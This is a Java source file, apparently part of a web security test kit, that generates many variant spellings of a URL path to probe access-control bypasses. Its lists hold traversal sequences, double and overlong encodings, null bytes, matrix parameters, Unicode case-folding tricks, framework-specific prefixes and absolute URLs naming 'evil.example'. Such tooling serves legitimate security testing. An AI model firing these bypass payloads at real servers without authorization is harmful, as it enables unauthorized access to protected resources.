package dev.hauberk.testkit.attack.access;

import dev.hauberk.testkit.http.Address;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;

/** Other spellings of a path, each of which some server or framework once took for the path itself. */
final class PathTricks {
    private static final List<String> BETWEEN = List.of(
            "/./",
            "//",
            "///",
            "/;/",
            "/;x=y/",
            "/%2e/",
            "/%252e/",
            "/x/../",
            "/x/..;/",
            "/x/%2e%2e/",
            "/x/%2e%2e;/",
            "/x/..;a=b/",
            "/x%2f../",
            "%2f",
            "%2F",
            "%252f",
            "%5c",
            "\\",
            "/%5c",
            "%c0%af",
            "/%c0%ae/",
            "/x/%c0%ae%c0%ae/",
            "/%e0%80%af",
            "/%20/",
            "/%00/",
            "/%09/",
            "/%3b/",
            "/.;/",
            "/..;/x/");
    private static final List<String> BEHIND = List.of(
            "/",
            "//",
            "/.",
            "/./",
            "/%2e",
            "/;",
            ";",
            ";x=y",
            ";jsessionid=A",
            ";.css",
            "/..;/",
            "/x/..",
            "/x/..;/",
            "/x/%2e%2e/",
            ".json",
            ".html",
            ".css",
            ".js",
            ".",
            "..",
            "/index.html",
            "%00",
            "%00.css",
            "%0a",
            "%0d",
            "%0d%0a",
            "%20",
            "%09",
            "%2f",
            "%2F",
            "%5c",
            "\\",
            "%3b",
            "%3bx=y",
            "%3f",
            "%23",
            "%3f.css",
            "%23.css",
            "%25",
            "%ff",
            "%",
            "%2",
            "~",
            "*",
            "::$DATA",
            "%e2%80%8b",
            "%ef%bc%8f",
            "\u00a0",
            "?.css",
            "?",
            "#",
            "#x",
            "/%c0%ae",
            "%c0%80",
            "/..%2f",
            "/..%5c",
            "%252f",
            "%252e",
            ";a=b;c=d/");
    private static final List<String> SEGMENT =
            List.of(";", ";x=y", ";jsessionid=A", "%20", "%00", ".", "%2e", "%3b", "%09", "%0a", "%0d", "~");

    private final String path;
    private final String context;
    private final Set<String> spellings = new LinkedHashSet<>();

    private PathTricks(String path, String context) {
        this.path = path;
        this.context = context;
    }

    /**
     * The spellings of a path.
     *
     * @param target a canonical path, with its context
     * @param context the context path, to which the tricks are not applied
     * @param open a path that everybody may get
     */
    static List<String> on(String target, String context, String open, Address address) {
        int query = target.indexOf('?');
        String path = query < 0 ? target : target.substring(0, query);
        PathTricks tricks = new PathTricks(path.substring(context.length()), context);
        tricks.slashes();
        tricks.ends();
        tricks.letters();
        tricks.detours(open);
        Set<String> all = new LinkedHashSet<>();
        tricks.spellings.forEach(spelling -> all.add(context + spelling));
        all.addAll(absolute(address, path));
        all.remove(path);
        return new ArrayList<>(all);
    }

    private void slashes() {
        for (int slash = path.indexOf('/'); slash >= 0; slash = path.indexOf('/', slash + 1)) {
            for (String between : BETWEEN) {
                if (slash > 0 || between.startsWith("/")) {
                    spellings.add(path.substring(0, slash) + between + path.substring(slash + 1));
                }
            }
            if (slash > 0) {
                for (String segment : SEGMENT) {
                    spellings.add(path.substring(0, slash) + segment + path.substring(slash));
                }
            }
        }
    }

    private void ends() {
        BEHIND.forEach(end -> spellings.add(path + end));
    }

    private void letters() {
        spellings.add(path.toUpperCase(Locale.ROOT));
        for (int i = 1; i < path.length(); i++) {
            char letter = path.charAt(i);
            String before = path.substring(0, i);
            String after = path.substring(i + 1);
            if (Character.isLetter(letter)) {
                String hex = String.format(Locale.ROOT, "%02x", (int) letter);
                spellings.add(before + "%25" + hex + after);
                spellings.add(before + "%u00" + hex + after);
                spellings.add(before + swapped(letter) + after);
            }
            if (letter == 'i') {
                spellings.add(before + "%c4%b1" + after); // the Turkish dotless i
                spellings.add(before + "%c4%b0" + after);
            }
            if (letter == 's') {
                spellings.add(before + "%c5%bf" + after); // the long s, which upper-cases to S
            }
            if (letter == 'k') {
                spellings.add(before + "%e2%84%aa" + after); // the Kelvin sign, which lower-cases to k
            }
        }
    }

    private static char swapped(char letter) {
        return Character.isUpperCase(letter) ? Character.toLowerCase(letter) : Character.toUpperCase(letter);
    }

    /** From a path that is open, and from names that frameworks treat in ways of their own. */
    private void detours(String open) {
        String up = "/..".repeat((int) open.chars().filter(c -> c == '/').count());
        for (String form : List.of(
                "/..",
                "/%2e%2e",
                "/..;",
                "/%2e%2e;",
                "/..%3b",
                "/%252e%252e",
                "%2f..",
                "%2f%2e%2e",
                "\\..",
                "%5c..",
                "/.%2e",
                "/%c0%ae%c0%ae",
                "/..;x=y")) {
            spellings.add(open + up.replace("/..", form) + path);
        }
        spellings.add(open + ";" + path);
        spellings.add(open + "%00" + path);
        spellings.add(open + "%3f" + path);
        for (String prefix : List.of(
                "/.",
                "/..",
                "/;",
                "/..;",
                "/%2e",
                "/x/..",
                "/x/..;",
                "//evil.example/..",
                "/WEB-INF/..",
                "/static/..",
                "/webjars/..;",
                "/error/..",
                "/auth/sign-in/../..",
                "/%2f",
                "/.;")) {
            spellings.add(prefix + path);
        }
        if (context.isEmpty()) {
            spellings.add("/." + path + "/.");
        }
    }

    private static List<String> absolute(Address address, String path) {
        List<String> forms = new ArrayList<>();
        for (String host : List.of(
                address.authority(), "evil.example", "localhost", "user@" + address.authority(), address.host())) {
            forms.add("http://" + host + path);
            forms.add("http://" + host + "/" + path);
            forms.add("HTTP://" + host + path + "/");
        }
        forms.add("https://" + address.authority() + path);
        forms.add("//" + address.authority() + path);
        forms.add(path.substring(1));
        forms.add("*" + path);
        forms.add("ftp://" + address.authority() + path);
        return forms;
    }
}
